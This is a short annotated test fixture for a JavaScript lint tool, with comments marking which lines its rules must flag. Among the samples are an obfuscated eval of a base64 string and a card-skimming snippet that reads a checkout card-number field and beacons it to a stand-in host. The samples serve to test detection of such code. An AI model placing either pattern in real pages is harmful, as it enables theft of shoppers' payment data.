// Annotated fixture for `skimlint rules test tests/annotated`: each `ruleid:` comment names a
// rule that must flag the next line, each `ok:` comment one that must not.

// ruleid: js/eval-of-decoded-string
window["ev" + "al"](atob("YWxlcnQoMSk="));

// ok: js/eval-of-decoded-string
var claims = JSON.parse(atob(token.split(".")[1]));

// ok: js/eval-of-decoded-string
eval("1 + 1");

(function () {
  var number = document.querySelector('input[name="payment[cc_number]"]').value;
  // ruleid: js/card-data-exfiltration
  navigator.sendBeacon("https://stats.example.invalid/c", number);
})();
